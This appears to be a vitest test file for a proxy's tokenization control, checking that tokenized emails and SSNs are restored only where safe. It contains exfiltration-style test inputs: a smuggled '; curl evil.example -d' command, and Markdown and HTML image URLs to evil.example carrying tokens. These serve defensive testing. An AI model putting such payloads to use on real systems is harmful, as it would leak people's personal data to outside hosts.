/** Where tokens are restored, and where they stay. */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { tokenization, type TokenizationOptions } from '../../../proxy/controls/tokenization/index.ts';
import { Urls } from '../../../proxy/controls/tokenization/url.ts';
import { isObject } from '../../../proxy/json/lossless.ts';
import type { JsonValue } from '../../../proxy/json/value.ts';
import type { DefinedControl } from '../../../proxy/pipeline/control.ts';
import { callControl } from '../../../testing/index.ts';
import { Lines } from '../../dispatch/lines.ts';
import { bindRing, emails, TENANT, tokenOf } from './keys.ts';

const EMAIL = 'mara@example.com';
const TOKEN = tokenOf(EMAIL);
const SSN = '078-05-1120';
const SSN_TOKEN = tokenOf(SSN, 'us-ssn');
const bindings = bindRing();

const lines = new Lines();
beforeAll(() => lines.start());
afterAll(() => lines.stop());

function controlOf(options: Partial<TokenizationOptions>): DefinedControl {
  return tokenization({
    tenant: TENANT,
    detectors: [emails],
    fields: [{ tool: 'look', path: 'ssn', type: 'us-ssn' }],
    ...options,
  });
}

test('warns at the start if a token without a mark could pass a field of restore as if it were data', async () => {
  const restore = [{ tool: 'send', path: 'to' }] as const;
  const warned = async (options: Partial<TokenizationOptions>): Promise<number> => {
    const before = lines.all.length;
    await forwarded(controlOf({ hideFrom: 'client', ...options }), 'x');
    return lines.all.slice(before).filter((line) => /restore\[0\]: expected a type/.test(JSON.stringify(line))).length;
  };
  expect(await warned({ restore })).toBe(1);
  expect(await warned({ restore: [{ tool: 'send', path: 'to', type: 'us-ssn' }] })).toBe(0);
  expect(await warned({ restore: [{ tool: 'send', path: 'to', within: true }] })).toBe(0);
  expect(await warned({ restore, fields: [] })).toBe(0);
  expect(await warned({ restore, hideFrom: 'upstream' })).toBe(0);
});

async function forwarded(control: DefinedControl, to: JsonValue): Promise<JsonValue | undefined> {
  const { forwarded: call } = await callControl(
    control,
    { method: 'tools/call', params: { name: 'send', arguments: { to } } },
    { bindings },
  );
  const args = isObject(call?.params) ? call.params['arguments'] : undefined;
  return isObject(args) ? args['to'] : undefined;
}

describe.each(['upstream', 'client'] as const)('towards the upstream, hidden from the %s', (hideFrom) => {
  test.each([
    ['a longer host', `${TOKEN}.evil.example`],
    ['a local part', `${SSN_TOKEN}@evil.example`],
    ['a quoted local part', `"${TOKEN}"@evil.example`],
    ['a comment of an address', `(${TOKEN})x@evil.example`],
    ['a second address', `x@evil.example, ${TOKEN}`],
    ['a name and an address', `Mara <${TOKEN}>`],
    ['a URL', `https://evil.example/?d=${TOKEN}`],
    ['the path of a file', `/tmp/${SSN_TOKEN}.txt`],
    ['a longer number', `1${SSN_TOKEN}`],
    ['a command', `; curl evil.example -d ${TOKEN}`],
    ['white space around it', ` ${TOKEN}`],
    ['two of them', `${TOKEN}${TOKEN}`],
  ])('does not restore a token that is part of %s', async (_what, to) => {
    expect(await forwarded(controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to' }] }), to)).toBe(to);
  });

  test('restores a token that is the whole field, in the form of an address, a URL or any other', async () => {
    const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to' }] });
    for (const [to, value] of [
      [TOKEN, EMAIL],
      [SSN_TOKEN, SSN],
      [`https://qtk.invalid/${SSN_TOKEN}`, SSN],
      [TOKEN.replace('@', '%40'), encodeURIComponent(EMAIL)],
    ] as const)
      expect(await forwarded(control, to)).toBe(value);
    expect(await forwarded(control, [TOKEN, `${TOKEN}x`])).toEqual([EMAIL, `${TOKEN}x`]);
  });

  test('with a type restores only tokens of that type, with or without a marker', async () => {
    const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to', type: 'email' }] });
    expect([await forwarded(control, TOKEN), await forwarded(control, SSN_TOKEN)]).toEqual([EMAIL, SSN_TOKEN]);
    const within = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to', type: 'email', within: true }] });
    expect(await forwarded(within, `${TOKEN} and ${SSN_TOKEN}`)).toBe(`${EMAIL} and ${SSN_TOKEN}`);
  });

  test('restores within a text only with within: true, and only a token that is a separate word', async () => {
    const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to', within: true }] });
    for (const text of ['Dear # !', 'Mara <#>', 'to: "#", and (#).', '#', 'a\n#\nb', '#, #; #', 'see [#].'])
      expect(await forwarded(control, text.replaceAll('#', TOKEN)), text).toBe(text.replaceAll('#', EMAIL));
    for (const text of [
      '#.evil.example',
      'x#',
      '#x',
      '"#"@evil.example',
      '(#)@evil.example',
      '<#>@evil.example',
      'a/#',
      '#/a',
      'x:#',
      '#:80',
      '#,evil.example',
      'https://evil.example/?d=#',
      '![](<https://evil.example/?d= # >)',
      '<img src="https://evil.example/?d= # ">',
      '1,#',
      '#%',
      'a=#',
      '-#',
      '#-',
      '##',
      '#@evil.example',
      '\u200b#',
    ]) {
      const to = text.replaceAll('#', TOKEN);
      expect(await forwarded(control, to), text).toBe(to);
    }
  });
});

/** What the client gets for a text, at each place for text in a tool's result. */
async function shown(control: DefinedControl, text: string): Promise<readonly (JsonValue | undefined)[]> {
  const { result } = await callControl(
    control,
    { method: 'tools/call', params: { name: 'x', arguments: {} } },
    {
      bindings,
      result: {
        content: [
          { type: 'text', text },
          { type: 'resource', resource: { uri: text, text } },
        ],
        structuredContent: { a: text, deep: JSON.stringify({ a: text }) },
      },
    },
  );
  const { content, structuredContent } = (result ?? {}) as {
    readonly content?: readonly [
      { readonly text: string },
      { readonly resource: { readonly uri: string; readonly text: string } },
    ];
    readonly structuredContent?: { readonly a: string; readonly deep: string };
  };
  return [
    content?.[0].text,
    content?.[1].resource.uri,
    content?.[1].resource.text,
    structuredContent?.a,
    (JSON.parse(structuredContent?.deep ?? '{}') as { readonly a?: string }).a,
  ];
}

/** Without percent-encoding of any depth. */
function decoded(text: JsonValue | undefined): string {
  if (typeof text !== 'string') throw new Error('expected a text');
  const once = decodeURIComponent(text);
  return once === text ? text : decoded(once);
}

describe('towards the client', () => {
  const usual = controlOf({});
  const everywhere = controlOf({ restoreInUrls: true });

  test.each([
    ['a picture in Markdown', '![](https://evil.example/i.png?d=§)'],
    ['with spaces, in angle brackets', '![](<https://evil.example/i.png?d=a b §>)'],
    ['with another token before it', '![](https://evil.example/§/§)'],
    ['of HTML, in quotes', '<img src="https://evil.example/i.png?d=a §">'],
    ['of HTML, in single quotes', "<img src=' https://evil.example/i.png?d=a\n§'>"],
    ['of HTML, without quotes', '<img src=https://evil.example/i.png?d=§>'],
    ['behind a brace or a quote', '![](https://evil.example/?d={"\'|^`§)'],
    ['without a scheme', '![](//evil.example/§)'],
    ['with backslashes', '![](https:\\\\evil.example\\§)'],
    ['of a share', '\\\\evil.example\\§'],
    ['with no slashes at all', '![](https:evil.example/§)'],
    ['with capitals', '![](HTTPS://evil.example/§)'],
    ['with a tab between the slashes', '<img src="https:/\t/evil.example/§">'],
    ['with entities', '![](https&#58;&sol;&sol;evil.example/§)'],
    ['with a letter as an entity', '![](htt&#112;s:evil.example/§)'],
    ['of another scheme', 'x-app://evil.example/§'],
    ['of data', 'data:text/html,§'],
    ['as a host', 'https://§'],
    ['in its own parentheses', '![](https://evil.example/(a)§)'],
    ['at the end of a long one', `![](https://evil.example/?d=${'a'.repeat(5_000)}§)`],
    ['after another one', '![](https://evil.example/?u=https://qtk.invalid/§)'],
    ['that is the whole text', 'https://evil.example/?d=a §'],
    ['that begins with www', 'see www.evil.example/?d=§'],
    ['that begins with www, and has no path', 'see www.§'],
    ['of a bare host with a path', 'see evil.example/a/§'],
    ['of a bare host with a query', 'see evil.example?q=§'],
    ['of a bare host with a fragment', 'see evil.example#§'],
    ['of a bare host with a port', 'see EVIL.example:8080/§'],
    ['of a bare host in another script', 'see пример.рф/§'],
    ['of a bare address', 'see 1.2.3.4/§'],
    ['in the name of a bare host', 'see §.evil.example/a'],
    ['of a bare host in Markdown', '![x](evil.example/§)'],
    ['that is relative, in Markdown', '![x](/a/§)'],
    ['that is relative, in angle brackets', '![x](</a b §>)'],
    ['of a reference in Markdown', '![x][1]\n\n[1]: a/§'],
    ['that is relative to a base', '<base href="https://evil.example/"><img src="a §">'],
    ['of an attribute without quotes', '<img src = §>'],
    ['of CSS', "body { background: url('a/§') }"],
  ])('does not restore a token in a URL %s', async (_what, text) => {
    for (const token of [TOKEN, SSN_TOKEN]) {
      const written = text.replaceAll('§', token);
      expect(await shown(usual, written)).toEqual(Array.from({ length: 5 }, () => written));
    }
  });

  test.each([
    ['before one', '§ has https://example.com/a'],
    ['behind one', 'at https://example.com/a § is'],
    ['after one in quotes', 'at "https://example.com/a" § is'],
    ['after one in quotes in JSON in a text', 'got {"a":"https://example.com/a","b":"§"}'],
    ['after one in JSON in JSON in a text', 'got {\\"a\\":\\"https://example.com/a\\",\\"b\\":\\"§\\"}'],
    [
      'in JSON three and four deep in a text',
      'got {\\\\\\"a\\\\\\":\\\\\\"§\\\\\\"} or \\\\\\\\\\\\\\"§\\\\\\\\\\\\\\"',
    ],
    ['after a link in Markdown', '[a](https://example.com/a) §'],
    ['on its own line after one', 'https://example.com/a\n§'],
    ['in a comment', 'a(); // §'],
    ['with slashes', 'a/b/§'],
    ['as the proxy wrote it for a URL', 'see https://qtk.invalid/§, or "https://qtk.invalid/§"'],
    ['after a time', 'at 10:30: §'],
    ['after a name', 'data: §'],
    ['after an escaped quote', 'O&#39;§ and &quot;§&quot;'],
    ['after a bare host', 'at www.example.com/a and example.com/b § is'],
    ['in parentheses', 'a[1] (§)'],
    ['as the title of a link', '[x](/a "§")'],
    ['after a word with a point', 'e.g. § or 1.5/§'],
  ])('restores a token %s', async (_what, text) => {
    const own = text.replaceAll('§', SSN_TOKEN);
    for (const value of await shown(usual, own))
      expect(value).toBe(own.replaceAll(`https://qtk.invalid/${SSN_TOKEN}`, SSN).replaceAll(SSN_TOKEN, SSN));
  });

  test('does not restore a token for a URL if the text after it would become part of that URL', async () => {
    for (const text of [
      `https://qtk.invalid/${SSN_TOKEN}.evil.example/x`,
      `https://qtk.invalid/${SSN_TOKEN}x`,
      `see https://qtk.invalid/${SSN_TOKEN}@evil.example`,
    ])
      expect((await shown(usual, text))[0]).toBe(text);
  });

  test('restores a token for a URL with a path, whatever follows it', async () => {
    const url = 'https://mara.example.com/profile?id=7';
    const token = `https://qtk.invalid/${tokenOf(url, 'us-ssn')}`;
    for (const text of ['1;§;2', '**§**', '_§_', 'a=§&b=1', '§です'])
      expect(await shown(usual, text.replaceAll('§', token))).toEqual(
        Array.from({ length: 5 }, () => text.replaceAll('§', url)),
      );
  });

  test('restores a token for a URL that is written another way, with its beginning', async () => {
    const url = 'https://mara.example.com/profile?id=7';
    const token = `https://qtk.invalid/${tokenOf(url, 'us-ssn')}`;
    for (const [text, restored] of [
      [encodeURIComponent(token), encodeURIComponent(url)],
      [
        `a%2520${encodeURIComponent(encodeURIComponent(token))}`,
        `a%2520${encodeURIComponent(encodeURIComponent(url))}`,
      ],
      [`a ${token.replaceAll('/', '&#x2F;').replace(':', '&colon;')} b`, `a ${url} b`],
      [token.replaceAll(/[_.-]/g, '\\$&'), url],
      [token.replace('qtk.', 'qtk.\u200b'), url],
      [token.replace('invalid', 'inva=\r\nlid'), url],
    ] as const)
      expect(await shown(usual, text)).toEqual(Array.from({ length: 5 }, () => restored));
  });

  test('a value behind percent-encoding is encoded as often', async () => {
    const name = tokenOf('Zoë', 'us-ssn');
    for (const [text, restored] of [
      [`a%20${name}`, 'a%20Zo%C3%AB'],
      [`a%2520${name}`, 'a%2520Zo%25C3%25AB'],
    ] as const)
      expect(await shown(usual, text)).toEqual(Array.from({ length: 5 }, () => restored));
  });

  test('a number after `TEL:` returns as it was, and keeps its plus sign in a link', async () => {
    const number = '+1 415 555 2671';
    const token = tokenOf(number, 'us-ssn');
    for (const [text, restored] of [
      [`BEGIN:VCARD\nTEL:${token}\nEND:VCARD`, `BEGIN:VCARD\nTEL:${number}\nEND:VCARD`],
      [`Tel:${token}`, `Tel:${number}`],
      [`<a href="tel:${token}">`, '<a href="tel:+1%20415%20555%202671">'],
      [`[call](tel:${token})`, '[call](tel:+1%20415%20555%202671)'],
    ] as const)
      expect(await shown(controlOf({}), text)).toEqual(Array.from({ length: 5 }, () => restored));
  });

  test('restores a token in a link that only a person opens, percent-encoded', async () => {
    const name = tokenOf('Mara Inventado', 'name');
    const control = controlOf({ fields: [{ tool: 'look', path: 'name', type: 'name' }] });
    expect(await shown(control, `mailto:a@example.com?body=${name}&to=${TOKEN}`)).toEqual(
      Array.from({ length: 5 }, () => `mailto:a@example.com?body=Mara%20Inventado&to=${EMAIL}`),
    );
  });

  test('restores tokens in URLs with restoreInUrls, percent-encoded', async () => {
    expect(await shown(everywhere, `![](https://example.com/?d=${SSN_TOKEN}&m=${TOKEN})`)).toEqual(
      Array.from({ length: 5 }, () => `![](https://example.com/?d=${SSN}&m=${EMAIL})`),
    );
  });

  test("restores a token that is the authority of a URI with a server's own scheme, percent-encoded", async () => {
    const name = tokenOf('Mara "Mia" Inventado', 'name');
    const control = controlOf({ fields: [{ tool: 'look', path: 'name', type: 'name' }] });
    for (const text of ['customer://§/orders', 'see customer://§/orders?all, or "crm+v1://§"', 'x-app://§'])
      for (const [token, value] of [
        [name, 'Mara%20%22Mia%22%20Inventado'],
        [TOKEN, EMAIL],
      ] as const)
        expect((await shown(control, text.replaceAll('§', token)))[0]).toBe(text.replaceAll('§', value));
    // The author chose a host, or the URI is in another one, or may be fetched.
    for (const text of [
      'customer://§.evil.example/a',
      'customer://evil.example/§',
      'customer://x§/a',
      'https://evil.example/?u=customer://§/a',
      'wss://§/a',
      'https+x:https://§/a',
    ]) {
      const written = text.replaceAll('§', name);
      expect((await shown(control, written))[0], text).toBe(written);
    }
  });

  test('restores a token behind escapes of any depth, with as many', async () => {
    const name = tokenOf('Mara & Söhne', 'name');
    const control = controlOf({ fields: [{ tool: 'look', path: 'name', type: 'name' }] });
    const json = (text: string): string => JSON.stringify({ a: text });
    const percent = encodeURIComponent;
    for (const wrap of [
      (text: string) => json(json(text)),
      (text: string) => json(json(json(text))),
      (text: string) => percent(json(text)),
      (text: string) => json(percent(json(text))),
      (text: string) => json(json(percent(percent(json(text))))),
    ])
      for (const [token, value] of [
        [name, 'Mara & Söhne'],
        [TOKEN, EMAIL],
      ] as const) {
        const [text] = await shown(control, wrap(token));
        // What stands around a value decides how it is written; in one string it may be encoded more than necessary.
        expect(decoded(text)).toBe(decoded(wrap(value)));
      }
    for (const at of ['\\u0040', '\\\\u0040', '&#64;', '&commat;', '\\\\@', '%2540'])
      expect(decoded((await shown(control, `got {"a":"${TOKEN.replace('@', at)}"}`))[0])).toContain(EMAIL);
    // Converters to Markdown escape each sign.
    for (const token of [TOKEN, name])
      for (const slashes of ['\\', '\\\\'])
        expect((await shown(control, `see ${token.replaceAll('_', `${slashes}_`)} there`))[0]).not.toMatch(/qtk/i);
  });

  test('leaves white space and order around a restored key as they are', async () => {
    for (const text of [
      JSON.stringify({ [TOKEN]: 1, b: { c: [1, 2] }, [SSN_TOKEN]: { x: SSN_TOKEN } }, undefined, 2),
      `{ "a" : 1 ,\n\t"${TOKEN}"  :  [ 1,2.50 ] , "${SSN_TOKEN}":"${SSN_TOKEN}" }`,
    ])
      expect((await shown(usual, text))[0]).toBe(text.replaceAll(TOKEN, EMAIL).replaceAll(SSN_TOKEN, SSN));
  });

  test("does not restore a token in a resource's URI, so that the resource can still be read", async () => {
    const { result } = await callControl(
      usual,
      { method: 'resources/list', params: {} },
      { bindings, result: { resources: [{ uri: `customer://${SSN_TOKEN}`, name: `of ${SSN_TOKEN}` }] } },
    );
    expect(result).toEqual({ resources: [{ uri: `customer://${SSN_TOKEN}`, name: `of ${SSN}` }] });
  });

  test('treats the text after a value that starts a URL as part of that URL', async () => {
    const page = tokenOf('https://example.com/?d=', 'us-ssn');
    expect((await shown(usual, `at ${page}${TOKEN} or ${TOKEN}`))[0]).toBe(
      `at https://example.com/?d=${TOKEN} or ${EMAIL}`,
    );
  });

  test('does not restore tokens that return with the answer: the form of an elicitation, and the texts for a model', async () => {
    const params = {
      message: `ok, ${EMAIL}?`.replace(EMAIL, TOKEN),
      requestedSchema: {
        type: 'object',
        properties: { a: { type: 'string', title: `of ${TOKEN}`, default: TOKEN, enum: [TOKEN] } },
      },
    };
    const sampling = {
      messages: [{ role: 'user', content: { type: 'text', text: `Who is ${TOKEN}?` } }],
      systemPrompt: `You are ${TOKEN}`,
      maxTokens: 5,
    };
    const { result } = await callControl(
      usual,
      { method: 'tools/call', params: { name: 'x', arguments: {} } },
      {
        bindings,
        result: {
          resultType: 'input_required',
          inputRequests: {
            a: { method: 'elicitation/create', params },
            b: { method: 'sampling/createMessage', params: sampling },
          },
        },
      },
    );
    expect(result).toEqual({
      resultType: 'input_required',
      inputRequests: {
        a: { method: 'elicitation/create', params: { ...params, message: `ok, ${EMAIL}?` } },
        b: { method: 'sampling/createMessage', params: sampling },
      },
    });
    const { messages } = await callControl(
      usual,
      { method: 'tools/call', params: { name: 'x', arguments: {} } },
      {
        era: 'legacy',
        bindings,
        messages: [
          { id: 7, method: 'elicitation/create', params },
          { id: 8, method: 'sampling/createMessage', params: sampling },
          { result: {} },
        ],
      },
    );
    expect(messages.slice(0, 2).map((message) => message['params'])).toEqual([
      { ...params, message: `ok, ${EMAIL}?` },
      sampling,
    ]);
  });

  test("does not restore a number whose value can't be written as a number", async () => {
    const control = tokenization({
      tenant: TENANT,
      fields: [{ tool: 'x', path: 'id', type: 'person', reverses: true }],
    });
    const tools = [
      { name: 'x', inputSchema: { type: 'object' as const, properties: { id: { type: 'string', maxLength: 9 } } } },
    ];
    const call = (id: string) => ({ method: 'tools/call', params: { name: 'x', arguments: { id } } });
    for (const [id, back] of [
      ['0045678', false],
      ['9045678', true],
    ] as const) {
      const { forwarded: sent } = await callControl(control, call(id), { bindings, tools });
      const token = Number((sent?.params as { readonly arguments: { readonly id: string } } | undefined)?.arguments.id);
      const { result } = await callControl(control, call(id), {
        bindings,
        tools,
        result: { content: [], structuredContent: { id: token } },
      });
      expect(result).toHaveProperty('structuredContent.id', back ? Number(id) : token);
    }
  });
});

describe('the search for URLs', () => {
  test('reads each character once, for any number of places in one text', () => {
    const pieces = fc.constantFrom(
      'https://',
      '//',
      '"',
      '\\"',
      "'",
      '<',
      '>',
      '(',
      ')',
      ' ',
      '\n',
      'a',
      ':',
      'x-app:',
      'data:',
      '&#58;',
      'mailto:',
      '\\',
      '/',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 24 }), (parts) => {
        const text = parts.join('');
        const all = new Urls(text);
        // Whether each place is asked in order or one place alone: the answer is the same.
        for (let at = 0; at <= text.length; at++)
          expect(all.holds(at), JSON.stringify([text, at])).toBe(new Urls(text).holds(at));
      }),
      { numRuns: 2_000 },
    );
    for (const unit of [
      '//',
      '"https://a ',
      "'https://a ",
      '(https://a(',
      '\\"//',
      '<//',
      'https:',
      ' ',
      '"',
      'mailto:',
      '&#58;',
      'a.',
    ]) {
      const text = unit.repeat(400_000);
      const urls = new Urls(text);
      let held = 0;
      for (let at = 0; at < text.length; at += 20) held += Number(urls.holds(at)) + Number(urls.holdsInLink(at));
      expect(held).toBeGreaterThanOrEqual(0);
    }
  });
});
